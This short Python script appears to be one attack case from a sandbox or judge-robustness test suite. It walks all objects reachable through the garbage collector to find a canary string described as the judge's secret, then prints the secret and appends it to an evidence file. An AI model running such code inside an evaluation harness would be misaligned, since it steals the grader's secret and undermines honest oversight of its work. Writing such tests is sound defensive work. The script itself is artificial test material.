# attack: secret_in_objects
# kind: leak   task: any   naive: run
# attempts: find the judge's secret among all Python objects
import os

def evidence(found="yes"):
    said = f"PWNED secret_in_objects {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/secret_in_objects", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import gc

mark = "SBX_" + "CANARY_"
todo, seen = list(gc.get_objects()), set()
while todo:
    thing = todo.pop()
    if id(thing) in seen:
        continue
    seen.add(id(thing))
    if type(thing) in (str, bytes) and mark in str(thing) and len(mark) + 8 < len(thing) < 200:
        evidence(repr(thing))
        break
    if type(thing) in (dict, list, tuple, set):
        todo.extend(gc.get_referents(thing))
